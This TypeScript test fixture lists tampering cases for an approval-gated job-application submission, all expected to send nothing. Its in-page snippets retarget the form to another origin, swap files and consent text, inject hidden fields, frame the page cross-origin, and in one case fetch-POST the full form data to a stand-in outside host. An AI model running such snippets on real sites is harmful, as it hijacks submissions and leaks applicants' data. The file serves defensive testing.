import type { ApplicationUnderTest } from "./approved-application.fixture.ts";

/** Something that changes between a person's approval and the click. */
export interface Tampering {
  readonly name: string;
  /** The form stands in a frame. */
  readonly isFramed?: boolean;
  /** Runs in the page; `form` and `button` are the application's. */
  readonly inPage?: string;
  /** Only when the step has come to this point. */
  readonly at?: string;
  readonly outside?: (application: ApplicationUnderTest) => Promise<unknown>;
}

const field = (name: string): string => `form.querySelector('[name=${name}]')`;

const values: readonly Tampering[] = [
  { name: "text", inPage: `${field("first_name")}.value = "Eve"` },
  { name: "email", inPage: `${field("email")}.value = "eve@example.com"` },
  { name: "textarea", inPage: `${field("why")}.value = "For nothing"` },
  { name: "select", inPage: `${field("notice")}.value = "n3"` },
  { name: "radio", inPage: `form.querySelectorAll('[name=relocate]')[1].checked = true` },
  { name: "checkbox", inPage: `${field("consent")}.checked = false` },
  { name: "combobox", inPage: `${field("city")}.value = "Bern"` },
  {
    name: "value of the option chosen",
    inPage: `${field("notice")}.selectedOptions[0].value = "n9"`,
  },
  {
    name: "value of the radio chosen",
    inPage: `form.querySelector('[name=relocate]:checked').value = "0"`,
  },
  { name: "value of the box ticked", inPage: `${field("consent")}.value = "share-with-all"` },
  {
    name: "words of the option chosen",
    inPage: `${field("notice")}.selectedOptions[0].textContent = "Tomorrow"`,
  },
  { name: "value of the button", inPage: `button.value = "withdraw"` },
];

const hidden: readonly Tampering[] = [
  { name: "hidden field changed", inPage: `${field("job_id")}.value = "43"` },
  {
    name: "hidden field that holds a token made to hold an address",
    inPage: `${field("csrf_token")}.value = "eve@example.com"`,
  },
  { name: "hidden field emptied", inPage: `${field("source")}.value = ""` },
  {
    name: "hidden field added",
    inPage: `form.insertAdjacentHTML("beforeend", '<input type=hidden name=referrer_email value="eve@example.com">')`,
  },
  {
    name: "hidden field of the same name added",
    inPage: `form.insertAdjacentHTML("beforeend", '<input type=hidden name=job_id value=43>')`,
  },
  {
    name: "hidden field outside bound to the form",
    inPage: `document.body.insertAdjacentHTML("beforeend", '<input type=hidden form=application name=extra value=1>')`,
  },
  { name: "hidden field removed", inPage: `${field("source")}.remove()` },
  { name: "hidden field renamed", inPage: `${field("source")}.name = "sauce"` },
];

const fields: readonly Tampering[] = [
  {
    name: "required field added",
    inPage: `form.insertAdjacentHTML("afterbegin", '<p><label>Salary <input name=salary required></label></p>')`,
  },
  {
    name: "filled field added",
    inPage: `form.insertAdjacentHTML("afterbegin", '<p><label>Salary <input name=salary value=1></label></p>')`,
  },
  { name: "field removed", inPage: `${field("last_name")}.closest("p").remove()` },
  { name: "field renamed", inPage: `${field("last_name")}.name = "mothers_name"` },
  { name: "field with an id renamed", inPage: `${field("city")}.name = "birthplace"` },
  {
    name: "field relabelled",
    inPage: `${field("last_name")}.previousSibling.data = "Name of your manager "`,
  },
  { name: "field made invisible", inPage: `${field("why")}.style.display = "none"` },
  { name: "field disabled", inPage: `${field("why")}.disabled = true` },
  {
    name: "field given to another form",
    inPage: `${field("email")}.setAttribute("form", "talent")`,
  },
  {
    name: "words of the consent",
    inPage: `document.querySelector("#consent span").textContent = "I agree that my data is sold"`,
  },
];

const upload = (name: string, text: string): string => `{
  const held = new DataTransfer();
  held.items.add(new File([${text}], ${name}, { type: "application/pdf" }));
  ${field("resume")}.files = held.files;
}`;
const sameName = `${field("resume")}.files[0].name`;
const sameSize = `"x".repeat(${field("resume")}.files[0].size)`;

const files: readonly Tampering[] = [
  { name: "other bytes of the same name and size", inPage: upload(sameName, sameSize) },
  { name: "other bytes of the same name", inPage: upload(sameName, `"%PDF-1.7 Eve"`) },
  { name: "file of another name", inPage: upload(`"other.pdf"`, sameSize) },
  { name: "file removed", inPage: `${field("resume")}.value = ""` },
  {
    name: "a second file",
    inPage: `form.insertAdjacentHTML("beforeend", '<p><label>Other file <input type=file name=second></label></p>')`,
  },
];

const targets: readonly Tampering[] = [
  { name: "path of the action", inPage: `form.action = "/jobs/43/apply?step=1"` },
  { name: "query of the action", inPage: `form.action = form.getAttribute("action") + "&job=43"` },
  { name: "origin of the action", inPage: `form.action = OTHER + "/jobs/42/apply?step=1"` },
  {
    name: "base address",
    inPage: `document.head.insertAdjacentHTML("beforeend", '<base href="' + OTHER + '">')`,
  },
  { name: "method", inPage: `form.method = "get"` },
  { name: "encoding", inPage: `form.enctype = "text/plain"` },
  { name: "window", inPage: `form.target = "_blank"` },
  {
    name: "button's action",
    inPage: `button.setAttribute("formaction", OTHER + "/jobs/42/apply")`,
  },
  {
    name: "button's query",
    inPage: `button.setAttribute("formaction", form.getAttribute("action") + "&job=43")`,
  },
  { name: "button's method", inPage: `button.setAttribute("formmethod", "get")` },
  { name: "button's encoding", inPage: `button.setAttribute("formenctype", "text/plain")` },
  { name: "button's window", inPage: `button.setAttribute("formtarget", "_blank")` },
  { name: "button given to another form", inPage: `button.setAttribute("form", "talent")` },
  {
    name: "script that sends elsewhere in its place",
    inPage: `form.addEventListener("submit", (event) => { event.preventDefault(); fetch(OTHER + "/jobs/42/apply", { method: "POST", mode: "no-cors", body: new FormData(form) }); })`,
  },
  {
    name: "script that moves the action at the click",
    inPage: `button.addEventListener("click", () => { form.action = OTHER + "/jobs/42/apply"; })`,
  },
  {
    name: "script that makes a GET of it at the click",
    inPage: `button.addEventListener("click", () => { form.method = "get"; form.action = OTHER + "/jobs/42"; })`,
  },
];

const pages: readonly Tampering[] = [
  {
    name: "frame of another origin",
    isFramed: true,
    inPage: `await load(document.querySelector("iframe"), OTHER + "/jobs/42?to=" + encodeURIComponent(SITE + "/jobs/42/apply?step=1"))`,
  },
  {
    name: "frame of another job",
    isFramed: true,
    inPage: `await load(document.querySelector("iframe"), "/jobs/43")`,
  },
  {
    name: "field in a frame",
    isFramed: true,
    inPage: `document.querySelector("iframe").contentDocument.querySelector("[name=first_name]").value = "Eve"`,
  },
  { name: "page of another job", outside: (it) => it.page().goto(`${it.site.url}/jobs/43`) },
  { name: "page of another job by its query", inPage: `history.replaceState(null, "", "?job=43")` },
  { name: "page loaded again", outside: (it) => it.page().reload() },
];

const records: readonly Tampering[] = [
  {
    name: "approval expired",
    outside: (it) => it.changeApproval({ expiresAt: new Date(Date.now() - 1_000) }),
  },
  {
    name: "approval used before",
    outside: (it) => it.changeApproval({ consumedAt: new Date() }),
  },
  {
    name: "approval of another task",
    outside: (it) => it.useForeignApproval("task"),
  },
  {
    name: "approval of another person",
    outside: (it) => it.useForeignApproval("person"),
  },
  {
    name: "approval of another digest",
    outside: (it) => it.changeApproval({ digest: `v2:${"0".repeat(64)}` }),
  },
  {
    name: "correction slipped into the approval",
    outside: (it) => it.changeApproval({ overrides: JSON.stringify({ email: "eve@example.com" }) }),
  },
  {
    name: "attempt set back",
    outside: (it) => it.changeIntent({ state: "prepared", approvalId: null }),
  },
  { name: "attempt given up", outside: (it) => it.changeIntent({ state: "aborted" }) },
  {
    name: "attempt bound to no approval",
    outside: (it) => it.changeIntent({ approvalId: null }),
  },
  { name: "session taken over", outside: (it) => it.takeOver() },
  {
    name: "task of another run",
    outside: (it) => it.changeTask({ runId: "another-run" }),
  },
  { name: "résumé replaced in the store", outside: (it) => it.replaceResume() },
];

const late: readonly Tampering[] = [
  {
    name: "text, after the page was read",
    at: "dispatch:read-back",
    inPage: `${field("first_name")}.value = "Eve"`,
  },
  {
    name: "hidden field, after the attempt was armed",
    at: "dispatch:armed",
    inPage: `${field("job_id")}.value = "43"`,
  },
  {
    name: "encoding, after the gate was armed",
    at: "dispatch:gate-armed",
    inPage: `form.enctype = "text/plain"`,
  },
  {
    name: "session taken over after the page was read",
    at: "dispatch:read-back",
    outside: (it) => it.takeOver(),
  },
  {
    name: "session taken over after the gate was armed",
    at: "dispatch:gate-armed",
    outside: (it) => it.takeOver(),
  },
  {
    name: "session replaced after the attempt was armed",
    at: "dispatch:armed",
    outside: (it) => it.closeSession(),
  },
  {
    name: "attempt given up after the gate was armed",
    at: "dispatch:gate-armed",
    outside: (it) => it.changeIntent({ state: "aborted" }),
  },
];

/** Each of these must send nothing. */
export const tamperings: readonly Tampering[] = [
  ...values,
  ...hidden,
  ...fields,
  ...files,
  ...targets,
  ...pages,
  ...records,
  ...late,
];
